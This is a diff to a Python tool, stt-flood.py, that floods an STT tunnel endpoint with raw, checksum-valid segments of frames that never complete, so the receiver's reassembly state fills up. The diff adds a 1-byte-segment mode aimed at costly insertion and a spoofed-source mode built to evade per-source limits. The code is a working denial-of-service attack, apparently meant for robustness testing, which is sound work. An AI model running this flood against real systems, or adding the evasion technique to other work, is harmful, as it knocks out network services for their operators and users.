@@ -13,12 +13,21 @@
 # See the License for the specific language governing permissions and
 # limitations under the License.
 
-"""Floods an STT endpoint with incomplete frames: every segment is the
-second half of a 64000-byte frame with a new random frame ID, valid in
-every other respect (IP and TCP checksums), so that each one is held for
-reassembly and none ever completes.
+"""Floods an STT endpoint with segments of frames that never complete,
+valid in every other respect (IP and TCP checksums), so that the receiver
+holds them for reassembly.
 
-Usage: stt-flood.py IFACE SRC-MAC DST-MAC SRC-IP DST-IP COUNT [SECONDS [PPS]]
+Usage: stt-flood.py IFACE SRC-MAC DST-MAC SRC-IP DST-IP COUNT
+                    [SECONDS [PPS [MODE]]]
+
+MODE says what each segment is:
+  ids      (default) the second half of a 64000-byte frame with a new
+           random frame ID: as many frames as segments, from one address.
+  tiny     1-byte segments at even offsets of a 64000-byte frame, a new
+           frame every 300 segments: costly insertion if nothing bounds it.
+  sources  like "ids", but each from a random address in 198.18.0.0/15
+           (SRC-IP is not used): a flood that per-source limits cannot
+           pin on one address.
 
 Sends COUNT segments (stopping after SECONDS, default 60) on IFACE through
 an AF_PACKET socket, at most PPS per second if given, and prints how many
@@ -71,6 +80,35 @@ def main():
     ack_ofs = 14 + 20 + 8
     csum_ofs = 14 + 20 + 16
 
+    mode = sys.argv[9] if len(sys.argv) > 9 else 'ids'
+    if mode not in ('ids', 'tiny', 'sources'):
+        sys.stderr.write("stt-flood: unknown mode %s\n" % mode)
+        return 2
+    eth = mac(dmac) + mac(smac) + b'\x08\x00'
+
+    def segment(src_b, seq, ack, data):
+        """A whole Ethernet frame, both checksums computed."""
+        tcp = bytearray(struct.pack('!HHIIBBHHH', 40000, 7471, seq, ack,
+                                    5 << 4, 0x18, 0xffff, 0, 0) + data)
+        pseudo = src_b + dip_b + struct.pack('!BBH', 0, 6, len(tcp))
+        struct.pack_into('!H', tcp, 16, csum(bytes(pseudo) + bytes(tcp)))
+        iph = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0,
+                          0x4000, 64, 6, 0, src_b, dip_b)
+        iph = iph[:10] + struct.pack('!H', csum(iph)) + iph[12:]
+        return eth + iph + bytes(tcp)
+
+    def words(data):
+        return sum(struct.unpack('!%dH' % (len(data) // 2), data))
+
+    # "sources": the same segment from 0.0.0.0 with both checksums zero;
+    # per packet, the new source address and ACK are added to their sums.
+    spkt = bytearray(segment(b'\0' * 4, (64000 << 16) | 32000, 0, payload))
+    struct.pack_into('!H', spkt, 14 + 10, 0)
+    struct.pack_into('!H', spkt, csum_ofs, 0)
+    ip_base = words(bytes(spkt[14:34]))
+    tcp_base = words(dip_b + struct.pack('!BBH', 0, 6, len(spkt) - 34)
+                     + bytes(spkt[34:]))
+
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((iface, 0))
     s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
@@ -78,15 +116,33 @@ def main():
     start = time.monotonic()
     sent = 0
     for sent in range(1, count + 1):
-        ack = random.getrandbits(32)
-        struct.pack_into('!I', pkt, ack_ofs, ack)
-        # The checksum over the rest is fixed: add only the new ACK.
-        struct.pack_into('!H', pkt, csum_ofs,
-                         ~csum_add(base + (ack >> 16) + (ack & 0xffff))
-                         & 0xffff)
+        if mode == 'tiny':
+            n = sent - 1
+            out = segment(sip_b, (64000 << 16) | (n % 300) * 2,
+                          n // 300, b'\x5a')
+        elif mode == 'sources':
+            src = (198 << 24 | 18 << 16) | random.getrandbits(17)
+            ack = random.getrandbits(32)
+            src_sum = (src >> 16) + (src & 0xffff)
+            struct.pack_into('!I', spkt, 14 + 12, src)
+            struct.pack_into('!H', spkt, 14 + 10,
+                             ~csum_add(ip_base + src_sum) & 0xffff)
+            struct.pack_into('!I', spkt, ack_ofs, ack)
+            struct.pack_into('!H', spkt, csum_ofs,
+                             ~csum_add(tcp_base + src_sum + (ack >> 16)
+                                       + (ack & 0xffff)) & 0xffff)
+            out = spkt
+        else:
+            ack = random.getrandbits(32)
+            struct.pack_into('!I', pkt, ack_ofs, ack)
+            # The checksum over the rest is fixed: add only the new ACK.
+            struct.pack_into('!H', pkt, csum_ofs,
+                             ~csum_add(base + (ack >> 16) + (ack & 0xffff))
+                             & 0xffff)
+            out = pkt
         while True:
             try:
-                s.send(pkt)
+                s.send(out)
                 break
             except BlockingIOError:
                 pass
